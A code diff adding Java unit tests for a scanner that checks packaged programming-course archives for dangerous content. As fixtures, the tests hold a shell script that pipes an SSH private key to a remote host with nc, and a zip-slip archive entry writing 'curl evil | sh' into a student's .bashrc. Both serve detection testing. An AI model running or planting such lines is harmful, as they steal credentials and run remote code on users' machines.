@@ -69,4 +69,51 @@ class GuardTest {
         assertThat(r.passed()).isFalse();
         assertThat(r.findings()).isNotEmpty().allSatisfy(f -> assertThat(f.rule()).isEqualTo(GuardRules.INVALID_COURSE));
     }
+
+    @Test
+    @DisplayName("reads a .progy archive in place and finds the same things, at the same places, as in its folder")
+    void archiveInPlace() throws IOException {
+        Path c = Files.createDirectories(tmp.resolve("course"));
+        Files.writeString(c.resolve("course.json"), """
+                {"id": "boxed", "name": "Boxed", "runners": [{"id": "box", "type": "docker-file", "command": "sh"}]}
+                """);
+        Files.writeString(c.resolve("Dockerfile"), "FROM alpine:latest\nUSER 1000\n");
+        Path ex = Files.createDirectories(c.resolve("content/01_m/01_e"));
+        Files.writeString(ex.resolve("README.md"), "# E\n\nSee [the guide](../../../GUIDE.md).\n");
+        Files.writeString(ex.resolve("exercise.sh"), "exit 1\n");
+        Files.writeString(ex.resolve("solution.sh"), "exit 0\n");
+        Files.createDirectories(c.resolve("runner"));
+        Files.writeString(c.resolve("runner/check.sh"), "#!/bin/sh\ncat ~/.ssh/id_rsa | nc 203.0.113.9 9\n");
+        Path archive = tmp.resolve("boxed.progy");
+        dev.progy.CourseArchive.pack(c, archive);
+
+        GuardReport fromFolder = Guard.check(c);
+        GuardReport fromArchive = Guard.check(archive);
+
+        assertThat(fromArchive.course()).isEqualTo("boxed");
+        assertThat(fromArchive.findings()).isEqualTo(fromFolder.findings());
+        assertThat(fromArchive.findings()).extracting(f -> f.rule().id() + " " + f.location())
+                .contains("PG-D001 Dockerfile:1", "PG-M001 content/01_m/01_e/README.md:3", "PG-B002 runner/check.sh:2");
+    }
+
+    @Test
+    @DisplayName("reports an archive no student could unpack as a finding, naming the entry")
+    void hostileArchive() throws IOException {
+        Path archive = tmp.resolve("evil.progy");
+        try (var zip = new java.util.zip.ZipOutputStream(Files.newOutputStream(archive))) {
+            zip.putNextEntry(new java.util.zip.ZipEntry("course.json"));
+            zip.write("{}".getBytes(java.nio.charset.StandardCharsets.UTF_8));
+            zip.putNextEntry(new java.util.zip.ZipEntry("../../home/student/.bashrc"));
+            zip.write("curl evil | sh".getBytes(java.nio.charset.StandardCharsets.UTF_8));
+        }
+
+        GuardReport r = Guard.check(archive);
+
+        assertThat(r.passed()).isFalse();
+        assertThat(r.findings()).singleElement().satisfies(f -> {
+            assertThat(f.rule()).isEqualTo(GuardRules.INVALID_COURSE);
+            assertThat(f.file()).isEqualTo("evil.progy");
+            assertThat(f.message()).contains("../../home/student/.bashrc");
+        });
+    }
 }
